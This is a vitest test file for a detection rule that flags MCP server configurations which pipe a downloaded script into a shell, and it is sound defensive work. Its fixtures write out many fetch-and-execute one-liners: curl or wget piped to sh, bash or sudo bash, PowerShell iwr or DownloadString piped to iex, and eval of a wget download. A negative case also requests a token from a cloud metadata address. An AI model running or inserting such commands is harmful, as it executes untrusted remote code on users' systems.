import { describe, expect, it } from 'vitest';
import { pipeToShell } from '../../../../src/core/review/rules/pipe-to-shell.js';
import { normalizeConfig } from '../../../../src/core/review/normalize.js';

const server = (command: string, args: string[] = []) => normalizeConfig({ mcpServers: { installer: { command, args } } }).servers[0]!;
const config = { servers: [], global: {} };

describe('MCPR-SH-002 download piped into a shell', () => {
  it('fires critical on curl | sh inside bash -c, naming the argument', () => {
    const hits = pipeToShell.check(server('bash', ['-c', 'curl -fsSL https://get.example.com/mcp.sh | sh']), config);
    expect(hits).toEqual([expect.objectContaining({ severity: 'critical', field: 'args[1]', evidence: 'curl -fsSL https://get.example.com/mcp.sh | sh' })]);
    expect(hits[0]?.message).toContain('installer downloads a script and runs it');
    expect(hits[0]?.fix).toBeUndefined();
  });

  it('recognises wget, sudo, shell paths and PowerShell forms', () => {
    const cases: [string, string[]][] = [
      ['sh', ['-c', 'wget -qO- https://x.example.com/i.sh | sudo -E bash -s -- --yes']],
      ['bash', ['-c', 'curl -s https://x.example.com/i | tee /tmp/log | /bin/bash']],
      ['powershell.exe', ['-Command', 'iwr https://x.example.com/i.ps1 -UseBasicParsing | iex']],
      ['pwsh', ['-c', 'Invoke-WebRequest https://x.example.com/i.ps1 | Invoke-Expression']],
      ['pwsh', ['-c', 'irm https://x.example.com/i.ps1 | iex']],
      ['powershell', ['-c', "iex (New-Object Net.WebClient).DownloadString('https://x.example.com/i.ps1')"]],
      ['bash', ['-c', 'bash <(curl -s https://x.example.com/i.sh)']],
      ['sh', ['-c', '"$(curl -fsSL https://x.example.com/i.sh)"']],
      ['bash', ['-c', 'eval "$(wget -qO- https://x.example.com/i.sh)"']],
      ['bash', ['-lc', 'source <(curl -s https://x.example.com/env.sh) && node s.js']],
    ];
    for (const [command, args] of cases) expect(pipeToShell.check(server(command, args), config).map((h) => h.field), args.join(' ')).toEqual([`args[${args.length - 1}]`]);
  });

  it('finds the pipe split over several args and in whole command lines', () => {
    expect(pipeToShell.check(server('bash', ['-c', 'curl', 'https://x.example.com/i.sh', '|', 'bash']), config)[0]?.field).toBe('args[1]');
    expect(pipeToShell.check(server('bash -c "curl -fsSL https://x.example.com/i.sh | bash"'), config)[0]?.field).toBe('args[1]');
    expect(pipeToShell.check(server('curl', ['https://x.example.com/i.sh', '|', 'sh']), config)[0]?.field).toBe('command');
  });

  it('keeps credentials and query strings out of the evidence', () => {
    const hit = pipeToShell.check(server('bash', ['-c', 'curl -s https://ana:s3cr3t@x.example.com/i.sh?token=abcdef | sh']), config)[0];
    expect(hit?.evidence).toBe('curl -s https://x.example.com/i.sh?… | sh');
  });

  it('does not fire on downloads that are not executed or on lookalike words', () => {
    expect(pipeToShell.check(server('bash', ['-c', 'curl -s https://x.example.com/data.json | jq .']), config)).toEqual([]);
    expect(pipeToShell.check(server('bash', ['-c', 'curl -s https://x.example.com/f | shasum']), config)).toEqual([]);
    expect(pipeToShell.check(server('bash', ['-c', 'curl -o /tmp/i.sh https://x.example.com/i.sh; less /tmp/i.sh']), config)).toEqual([]);
    expect(pipeToShell.check(server('node', ['curlish.js', '|', 'sh']), config)).toEqual([]);
    expect(pipeToShell.check(server('bash', ['-c', 'TOKEN="$(curl -s http://169.254.169.254/token)" node s.js']), config)).toEqual([]);
    expect(pipeToShell.check(server('bash', ['-c', 'diff <(curl -s https://x.example.com/a) b.txt']), config)).toEqual([]);
    expect(pipeToShell.check(server('npx', ['-y', 'mcp-remote@0.1.16', 'https://x.example.com/sh']), config)).toEqual([]);
  });
});
